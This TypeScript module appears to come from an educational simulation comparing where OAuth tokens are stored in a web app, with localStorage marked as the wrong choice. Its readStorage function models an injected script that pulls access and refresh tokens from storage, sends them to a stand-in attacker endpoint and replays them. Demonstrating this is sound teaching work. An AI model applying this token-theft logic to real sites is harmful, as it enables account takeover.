import type { Machine } from '../../../machine/machine.ts';
import type { Run } from '../../../machine/run/run.ts';
import { attackersServer } from '../../../machine/run/script-in-page.ts';
import { COUNTERFEIT } from '../../../machine/run/server-of.ts';
import { formMessage, refreshRequest } from '../../../machine/run/token-request.ts';
import { RefusedAtServer } from '../../../machine/run/user-agent.ts';
import { membersOf } from '../../../machine/wire/exchange.ts';
import { newestTokens } from '../../chapters/evidence.ts';
import { backendClient, signInThroughBackend } from './backend.ts';

export const NOTHING_FOUND = 'nothing';

/** A pattern: where the tokens of an app are, and what a script in its page can do. */
export interface Pattern {
  name: string;
  /** Signs a person in. @returns the page after the sign-in. */
  open(machine: Machine, origin: string): Promise<Page>;
}

/** A signed-in page, as a script in this page sees it. */
export interface Page {
  run: Run;
  /** The lane of the diagram that shows the page. */
  lane: 'client' | 'browser';
  /** The texts in `localStorage` and `sessionStorage`. */
  stored(): string[];
  /** The call that the page makes for a person. A script can make the same call. */
  call(): Promise<void>;
}

const textsIn = ({ storage, shared }: Run): string[] =>
  [storage, shared].flatMap((area) => [...area.getSnapshot().values()]);

export const LOCAL_STORAGE: Pattern = {
  name: 'both in localStorage',
  async open(machine) {
    const run = machine.start({ middleware: [attackersServer] });
    await run.signIn();
    // WRONG: every script of this origin can read the tokens, also after the browser restarts.
    run.shared.setItem('tokens', JSON.stringify(newestTokens(machine.log.getSnapshot())));
    return { run, lane: 'client', stored: () => textsIn(run), call: () => run.callTool('whoami') };
  },
};

export const IN_MEMORY: Pattern = {
  name: 'in memory and sessionStorage, as in this app',
  async open(machine) {
    const run = machine.start({ middleware: [attackersServer] });
    await run.signIn();
    return { run, lane: 'client', stored: () => textsIn(run), call: () => run.callTool('whoami') };
  },
};

export const BACKEND: Pattern = {
  name: 'at a backend',
  async open(machine, origin) {
    const clients = [backendClient(`${origin}/callback`)];
    const run = machine.start({ clients, middleware: [attackersServer] });
    const page = await signInThroughBackend(machine, run);
    return { run, lane: 'browser', stored: () => textsIn(run), call: () => page.call('whoami') };
  },
};

export const PATTERNS = {
  question: 'Where are the tokens?',
  all: [LOCAL_STORAGE, IN_MEMORY, BACKEND],
} as const;

/** The access token and the refresh token that a script finds in the texts of a storage, if any. */
function tokenIn(texts: readonly string[]): { access?: string; refresh?: string } {
  const found: { access?: string; refresh?: string } = {};
  for (const text of texts) {
    const { access_token, refresh_token, refreshToken } = membersOf({ body: text });
    if (typeof access_token === 'string') found.access = access_token;
    const refresh = refresh_token ?? refreshToken;
    if (typeof refresh === 'string') found.refresh = refresh;
  }
  return found;
}

/** Reads the storage as a script, and sends the token in it to the attacker, who uses the token. */
export async function readStorage({ run, lane, stored }: Page): Promise<void> {
  const { access, refresh } = tokenIn(stored());
  const { method, url, headers, body } = formMessage(`${run.origin}${COUNTERFEIT}/collect`, {
    taken: access ?? refresh ?? NOTHING_FOUND,
  });
  await run.networkFor(lane, 'back')(url, { method, headers, body });
  if (access !== undefined) {
    await run.attacker().callTool('whoami', {}, access);
    return;
  }
  if (refresh === undefined) return;
  await run.send(refreshRequest(run, refresh), 'attacker');
}

/** Acts as a script that requests a token in the address of the response (RFC 6749 §4.2). */
export async function askInTheAddress(machine: Machine): Promise<void> {
  try {
    await machine
      .start()
      .authorize({ request: ({ searchParams }) => searchParams.set('response_type', 'token') });
  } catch (error) {
    // The report already shows that the server refused.
    if (!(error instanceof RefusedAtServer)) throw error;
  }
}
